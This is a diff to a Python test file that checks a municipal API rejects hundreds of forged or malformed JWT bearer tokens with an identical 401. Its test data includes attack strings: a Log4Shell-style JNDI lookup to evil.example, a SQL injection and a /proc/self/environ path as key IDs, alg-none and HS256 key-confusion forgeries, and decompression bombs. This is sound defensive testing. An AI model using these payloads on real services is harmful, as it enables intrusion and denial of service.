@@ -1,4 +1,4 @@
-"""Tokens that are not good, brought to the door: each one is the same 401 at every operation, and changes nothing."""
+"""Attacks with invalid tokens over HTTP: each gets the same 401 at every operation, and changes nothing."""
 
 import gzip
 import json
@@ -15,7 +15,7 @@ from api.core.danish_collation import danish_key
 from api.db import transactions
 from api.journal.models import Entry
 from api.municipal_sign_in.actions.sign_in import MunicipalSignIn
-from api.municipal_sign_in.rules import Reading
+from api.municipal_sign_in.schemas import ClaimMapping
 from api.sign_in.models import Person, SignIn
 from tests.support.oidc_provider import PRIVATE, FakeProvider
 from tests.support.token_cases import (
@@ -24,43 +24,51 @@ from tests.support.token_cases import (
     BODY,
     FAMILY,
     GOOD,
+    INVALID_TOKENS,
     NOW,
     OWN,
-    REFUSED,
     RSA,
-    SEAL,
     SIGN,
+    SIGNATURE,
     T,
     b64,
     claims,
     header,
-    octets,
     rs256,
+    to_bytes,
     token,
 )
 from tests.support.world import World
 
-ELSEWHERE = "https://login.kommune.example"
-THEIRS = {"rsa": "RS256", "ec": "ES256", "pss": "PS256", "ed": "EdDSA"}
+PROVIDER_ISSUER = "https://login.kommune.example"
+PROVIDER_ALGORITHMS = {"rsa": "RS256", "ec": "ES256", "pss": "PS256", "ed": "EdDSA"}
 
 
-def from_provider(kid: str = "rsa", /, **changes: Any) -> str:
-    """A token of the provider's, which knows its own keys; good unless told otherwise."""
-    said = {"iss": ELSEWHERE, "aud": AUDIENCE, "sub": "mette", "jti": "1", "iat": T, "exp": T + 900, "roles": ["x"]}
-    said |= {name: value for name, value in changes.items() if name not in ("head", "sign")}
+def provider_token(kid: str = "rsa", /, **changes: Any) -> str:
+    """Return a token of the provider, valid but for the changes; `head` and `sign` change header and signature."""
+    payload = {
+        "iss": PROVIDER_ISSUER,
+        "aud": AUDIENCE,
+        "sub": "mette",
+        "jti": "1",
+        "iat": T,
+        "exp": T + 900,
+        "roles": ["x"],
+    }
+    payload |= {name: value for name, value in changes.items() if name not in ("head", "sign")}
     head = header(kid) | changes.get("head", {})
-    kept = {name: value for name, value in said.items() if value != "absent"}
-    return token(head, kept, changes.get("sign", SIGN[kid]))
+    payload = {name: value for name, value in payload.items() if value != "absent"}
+    return token(head, payload, changes.get("sign", SIGN[kid]))
 
 
-def bomb(size: int) -> str:
-    """Claims that say that they are packed, and grow when they are unpacked."""
-    return b64(zlib.compress(octets(claims(x="a" * size)))[2:-4])
+def compressed_claims(size: int) -> str:
+    """Return compressed claims that expand to `size` characters (a decompression bomb)."""
+    return b64(zlib.compress(to_bytes(claims(x="a" * size)))[2:-4])
 
 
-JWE = b64(octets({"alg": "dir", "enc": "A256GCM", "kid": "own", "zip": "DEF"}))
+JWE = b64(to_bytes({"alg": "dir", "enc": "A256GCM", "kid": "own", "zip": "DEF"}))
 
-# What is tried beside the table of `test_tokens`: what only comes over HTTP, and what only a provider can get wrong.
+# In addition to `token_cases.INVALID_TOKENS`: malformed headers, and invalid tokens of a provider.
 HEADERS: dict[str, str | list[str]] = {
     "nothing": [],
     "an empty header": "",
@@ -90,14 +98,14 @@ HEADERS: dict[str, str | list[str]] = {
     "bytes that are no text": "Bearer \xff\xfe\xfd",
 }
 TEXTS: dict[str, str] = {
-    "packed claims": f"{b64(octets(header(zip='DEF')))}.{bomb(10_000_000)}.{SEAL}",
-    "packed claims, signed": token(header(zip="DEF"), zlib.compress(octets(claims()))),
-    "gzip, signed": token(body=gzip.compress(octets(claims()))),
+    "packed claims": f"{b64(to_bytes(header(zip='DEF')))}.{compressed_claims(10_000_000)}.{SIGNATURE}",
+    "packed claims, signed": token(header(zip="DEF"), zlib.compress(to_bytes(claims()))),
+    "gzip, signed": token(body=gzip.compress(to_bytes(claims()))),
     "a JWE": f"{JWE}..{b64(b'0' * 12)}.{BODY}.{b64(b'0' * 16)}",
-    "a JWE that unpacks": f"{JWE}..AAAA.{bomb(1_000_000)}.AAAA",
+    "a JWE that unpacks": f"{JWE}..AAAA.{compressed_claims(1_000_000)}.AAAA",
     "a token in a token": token(header(cty="JWT"), GOOD.encode()),
     "a header of 7 KB": token(header(x="a" * 7000)),
-    "a header of 60 KB": f"{b64(octets(header(x='a' * 45_000)))}.{BODY}.{SEAL}",
+    "a header of 60 KB": f"{b64(to_bytes(header(x='a' * 45_000)))}.{BODY}.{SIGNATURE}",
     "a JWK with our key": token(header(jwk={"kty": "RSA", "kid": "rsa"}), sign=rs256),
     "no such key as kid": token(header(kid="/proc/self/environ")),
     "a URL as kid": token(header(kid="https://evil.example/jwks")),
@@ -105,34 +113,34 @@ TEXTS: dict[str, str] = {
     "SQL as kid": token(header(kid="x' UNION SELECT 'secret'--")),
     "a template as kid": token(header(kid="${jndi:ldap://evil.example/a}")),
     "a refresh token's secret": "Jq3xW2mB7cT9vK1sR5yU8aE4oI6pL0dF-gHjZxCvBnM",
-    "the provider's issuer, by our key": token(body=claims(iss=ELSEWHERE)),
+    "the provider's issuer, by our key": token(body=claims(iss=PROVIDER_ISSUER)),
     "our issuer, by the provider's key": token(header("rsa"), claims()),
-    "the provider's, by a key that turned out": from_provider(head={"kid": "old"}, sign=rs256),
-    "the provider's, by another's key of that kid": from_provider("ec", sign=SIGN["ed"]),
-    "the provider's, RS256 called PS256": from_provider("pss", sign=rs256),
-    "the provider's, alg none": f"{from_provider(head={'alg': 'none'}).rsplit('.', 1)[0]}.",
-    "the provider's, HS256 with its public key": from_provider(head={"alg": "HS256"}, sign=SIGN["own"]),
-    "the provider's, for its client": from_provider(aud="portal"),
-    "the provider's, for several, not us": from_provider(aud=["portal", "account"]),
-    "the provider's ID token": from_provider(nonce="n-0S6_WzA2Mj", at_hash="77QmUPtjPfzWtF2AnpK9RA"),
-    "the provider's ID token by typ": from_provider(head={"typ": "JWT"}),
-    "the provider's logout token": from_provider(head={"typ": "logout+jwt"}, events={}),
-    "the provider's refresh token": from_provider(typ="Refresh"),
-    "the provider's, of a day ago": from_provider(iat=T - 87_300, exp=T - 86_400),
-    "the provider's, half a minute late": from_provider(iat=T - 900, exp=T - 30),
-    "the provider's, of tomorrow": from_provider(iat=T + 86_400, exp=T + 87_000),
-    "the provider's, for a month": from_provider(exp=T + 2_592_000),
-    "the provider's, without an end": from_provider(exp="absent"),
-    "the provider's, without a name": from_provider(jti="absent"),
-    "the provider's, without a subject": from_provider(sub="absent"),
-    "the provider's, a subject of all": from_provider(sub=["mette", "anna"]),
-    "the provider's, a subject of control characters": from_provider(sub="mette\0admin"),
-    "the provider's, of its other realm": from_provider(iss=ELSEWHERE + "/realms/other"),
-    "the provider's, its issuer in capitals": from_provider(iss=ELSEWHERE.upper()),
+    "the provider's, by a retired key": provider_token(head={"kid": "old"}, sign=rs256),
+    "the provider's, by another's key of that kid": provider_token("ec", sign=SIGN["ed"]),
+    "the provider's, RS256 called PS256": provider_token("pss", sign=rs256),
+    "the provider's, alg none": f"{provider_token(head={'alg': 'none'}).rsplit('.', 1)[0]}.",
+    "the provider's, HS256 with its public key": provider_token(head={"alg": "HS256"}, sign=SIGN["own"]),
+    "the provider's, for its client": provider_token(aud="portal"),
+    "the provider's, for several, not us": provider_token(aud=["portal", "account"]),
+    "the provider's ID token": provider_token(nonce="n-0S6_WzA2Mj", at_hash="77QmUPtjPfzWtF2AnpK9RA"),
+    "the provider's ID token by typ": provider_token(head={"typ": "JWT"}),
+    "the provider's logout token": provider_token(head={"typ": "logout+jwt"}, events={}),
+    "the provider's refresh token": provider_token(typ="Refresh"),
+    "the provider's, of a day ago": provider_token(iat=T - 87_300, exp=T - 86_400),
+    "the provider's, half a minute late": provider_token(iat=T - 900, exp=T - 30),
+    "the provider's, of tomorrow": provider_token(iat=T + 86_400, exp=T + 87_000),
+    "the provider's, for a month": provider_token(exp=T + 2_592_000),
+    "the provider's, without an end": provider_token(exp="absent"),
+    "the provider's, without a name": provider_token(jti="absent"),
+    "the provider's, without a subject": provider_token(sub="absent"),
+    "the provider's, a subject of all": provider_token(sub=["mette", "anna"]),
+    "the provider's, a subject of control characters": provider_token(sub="mette\0admin"),
+    "the provider's, of its other realm": provider_token(iss=PROVIDER_ISSUER + "/realms/other"),
+    "the provider's, its issuer in capitals": provider_token(iss=PROVIDER_ISSUER.upper()),
 }  # fmt: skip
-TABLE: dict[str, str] = {
+INVALID_AUTHORIZATION: dict[str, str] = {
     name: f"Bearer {text}"
-    for name, (_, text) in REFUSED.items()
+    for name, (_, text) in INVALID_TOKENS.items()
     if isinstance(text, str)
     and text != GOOD
     and text == text.strip(" ")
@@ -150,18 +158,18 @@ OPERATIONS = [
 
 
 @pytest.fixture
-async def door(world: World, monkeypatch: pytest.MonkeyPatch) -> World:
-    """The service with the keys of the table, the person of its tokens signed in, and a provider beside."""
+async def service(world: World, monkeypatch: pytest.MonkeyPatch) -> World:
+    """The service with the keys and the person of `token_cases`, and a provider."""
     provider = FakeProvider()
-    provider.discovery = {"issuer": ELSEWHERE, "jwks_uri": f"{ELSEWHERE}/jwks"}
-    monkeypatch.setattr("tests.support.oidc_provider.ISSUER", ELSEWHERE)
+    provider.discovery = {"issuer": PROVIDER_ISSUER, "jwks_uri": f"{PROVIDER_ISSUER}/jwks"}
+    monkeypatch.setattr("tests.support.oidc_provider.ISSUER", PROVIDER_ISSUER)
     keys = {"rsa": RSA, "ec": PRIVATE["ES256"], "pss": PRIVATE["PS256"], "ed": PRIVATE["EdDSA"]}
-    provider.keys = {kid: (THEIRS[kid], key) for kid, key in keys.items()}
-    told = provider.provider(issuer=ELSEWHERE, audience=AUDIENCE)
-    mapping = Reading.model_validate(
+    provider.keys = {kid: (PROVIDER_ALGORITHMS[kid], key) for kid, key in keys.items()}
+    configured = provider.client(issuer=PROVIDER_ISSUER, audience=AUDIENCE)
+    mapping = ClaimMapping.model_validate(
         {"grants": [{"claim": "roles", "value": "x", "role": "administration", "unit": "municipality"}]}
     )
-    municipal = MunicipalSignIn(told, mapping, world.app.state.engine)
+    municipal = MunicipalSignIn(configured, mapping, world.app.state.engine)
     monkeypatch.setitem(world.app.state._state, "verifier", OWN)
     monkeypatch.setitem(world.app.state._state, "municipal", municipal)
     clock.move(NOW)
@@ -172,61 +180,64 @@ async def door(world: World, monkeypatch: pytest.MonkeyPatch) -> World:
     return world
 
 
-async def brought(
-    world: World, told: str | list[str], method: str = "GET", path: str = "/v1/me", body: Any = None
+async def send_token(
+    world: World, authorization: str | list[str], method: str = "GET", path: str = "/v1/me", body: Any = None
 ) -> Any:
-    lines = [told] if isinstance(told, str) else told
-    headers = [(b"authorization", line.encode("latin-1")) for line in lines]
+    values = [authorization] if isinstance(authorization, str) else authorization
+    headers = [(b"authorization", value.encode("latin-1")) for value in values]
     return await world.client.request(method, path.format(birk=world.birk), headers=headers, json=body)
 
 
-async def entries(world: World) -> tuple[int, int]:
+async def count_rows(world: World) -> tuple[int, int]:
+    """Return the numbers of journal entries and of people."""
     async with transactions.read_transaction(world.app.state.engine) as session:
-        asked = [select(func.count()).select_from(table) for table in (Entry, Person)]
-        counts = [(await session.execute(one)).scalar_one() for one in asked]
+        statements = [select(func.count()).select_from(table) for table in (Entry, Person)]
+        counts = [(await session.execute(statement)).scalar_one() for statement in statements]
     return counts[0], counts[1]
 
 
-def seen(answer: httpx.Response) -> tuple[Any, ...]:
-    """All that an answer shows, but for what differs from request to request."""
-    body = answer.json()
-    told = {name: body[name] for name in sorted(body) if name not in ("request_id", "instance")}
-    quiet = {name: value for name, value in answer.headers.items() if name not in ("x-request-id", "content-length")}
-    return answer.status_code, json.dumps(told), quiet
+def visible_parts(response: httpx.Response) -> tuple[Any, ...]:
+    """Return status, body and headers of a response, without what differs from request to request."""
+    body = response.json()
+    members = {name: body[name] for name in sorted(body) if name not in ("request_id", "instance")}
+    headers = {
+        name: value for name, value in response.headers.items() if name not in ("x-request-id", "content-length")
+    }
+    return response.status_code, json.dumps(members), headers
 
 
-async def test_good_tokens_are_taken(door: World) -> None:
-    """Else all that follows would prove nothing."""
-    assert (await brought(door, f"Bearer {GOOD}")).status_code == 200
-    assert (await brought(door, f"bearer   {GOOD}  ")).status_code == 200
-    assert (await brought(door, f"Bearer {from_provider()}")).status_code == 200
+async def test_valid_tokens_are_accepted(service: World) -> None:
+    """Without this, the tests below would prove nothing."""
+    assert (await send_token(service, f"Bearer {GOOD}")).status_code == 200
+    assert (await send_token(service, f"bearer   {GOOD}  ")).status_code == 200
+    assert (await send_token(service, f"Bearer {provider_token()}")).status_code == 200
 
 
-async def test_no_token_of_the_table_is_taken_anywhere(door: World) -> None:
-    assert len(TABLE) + len(HEADERS) > 500
-    before, expected = await entries(door), seen(await brought(door, []))
+async def test_invalid_tokens_are_rejected_alike_by_every_kind_of_operation(service: World) -> None:
+    assert len(INVALID_AUTHORIZATION) + len(HEADERS) > 500
+    before, expected = await count_rows(service), visible_parts(await send_token(service, []))
     assert expected[0] == 401
     assert expected[2]["www-authenticate"] == 'Bearer realm="sammen"'
-    told: list[tuple[str, str | list[str]]] = [*TABLE.items(), *HEADERS.items()]
-    if door.app.state.engine.dialect.name == "postgresql":
-        told = told[::5]  # what is refused here has not asked the database
-    wrong = []
-    for at, (name, line) in enumerate(told):
-        # Each at the first operation, and at one of the others, which see the whole table between them.
-        for operation in (OPERATIONS[0], OPERATIONS[1 + at % (len(OPERATIONS) - 1)]):
-            answer = await brought(door, line, *operation)
-            if seen(answer) != expected:
-                wrong.append((name, operation[0], answer.status_code, answer.text[:200]))
-    assert wrong == []
-    assert await entries(door) == before
+    cases: list[tuple[str, str | list[str]]] = [*INVALID_AUTHORIZATION.items(), *HEADERS.items()]
+    if service.app.state.engine.dialect.name == "postgresql":
+        cases = cases[::5]  # invalid tokens are rejected before the database is read
+    unexpected = []
+    for index, (name, authorization) in enumerate(cases):
+        # Each case at the first operation and at one of the others in turn.
+        for operation in (OPERATIONS[0], OPERATIONS[1 + index % (len(OPERATIONS) - 1)]):
+            response = await send_token(service, authorization, *operation)
+            if visible_parts(response) != expected:
+                unexpected.append((name, operation[0], response.status_code, response.text[:200]))
+    assert unexpected == []
+    assert await count_rows(service) == before
 
 
-async def test_a_token_has_no_place_but_its_header(door: World) -> None:
-    for answer in (
-        await door.client.get(f"/v1/me?access_token={GOOD}"),
-        await door.client.get("/v1/me", headers={"Cookie": f"access_token={GOOD}; token={GOOD}"}),
-        await door.client.get("/v1/me", headers={"X-Access-Token": GOOD, "Proxy-Authorization": f"Bearer {GOOD}"}),
-        await door.client.post("/v1/districts", json={"access_token": GOOD, "name": "Vest"}),
+async def test_token_outside_the_authorization_header_is_ignored(service: World) -> None:
+    for response in (
+        await service.client.get(f"/v1/me?access_token={GOOD}"),
+        await service.client.get("/v1/me", headers={"Cookie": f"access_token={GOOD}; token={GOOD}"}),
+        await service.client.get("/v1/me", headers={"X-Access-Token": GOOD, "Proxy-Authorization": f"Bearer {GOOD}"}),
+        await service.client.post("/v1/districts", json={"access_token": GOOD, "name": "Vest"}),
     ):
-        assert (answer.status_code, answer.json()["code"]) == (401, "not-signed-in")
-        assert GOOD not in answer.text
+        assert (response.status_code, response.json()["code"]) == (401, "not-signed-in")
+        assert GOOD not in response.text
